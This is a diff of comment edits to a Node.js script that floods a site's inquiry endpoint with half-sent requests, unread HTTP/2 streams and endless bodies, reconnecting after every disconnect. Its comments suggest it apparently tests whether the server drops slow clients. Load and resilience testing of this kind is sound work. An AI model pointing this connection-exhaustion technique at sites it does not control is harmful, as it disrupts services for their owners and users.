@@ -1,6 +1,6 @@
-// Disturbs the inbox until it is ended: node disturb.mjs <address of the site>
-// Requests that are never finished, HTTP/2 that never takes its answers, and bodies without an end.
-// Says so when all of it is under way.
+// Attacks the inbox until this process is ended: node disturb.mjs <address of the site>
+// Sends requests that never finish, HTTP/2 requests whose responses are never read, and endless bodies.
+// Prints a line once all attacks have started.
 
 import { connect } from "node:http2";
 import { createConnection } from "node:net";
@@ -10,15 +10,15 @@ const address = new URL(process.argv[2]);
 const HALF_SENT = 200;
 const UNREAD = 20;
 const ENDLESS = 8;
-/** Whoever is cut off comes again after so many milliseconds. */
+/** The delay in milliseconds before a disconnected client connects again. */
 const PAUSE = 50;
 
 const head = `POST /api/inquiries HTTP/1.1\r\nHost: ${address.host}\r\nContent-Type: application/json\r\n`;
 
-/** Does something on a connection, again and again. */
+/** Runs an attack on a connection, and again after each disconnect. */
 function again(use) {
   const socket = createConnection({ host: address.hostname, port: Number(address.port) });
-  // To be cut off is what it is there for.
+  // The server is expected to disconnect.
   socket.on("error", () => {});
   socket.on("close", () => setTimeout(() => again(use), PAUSE));
   socket.resume();
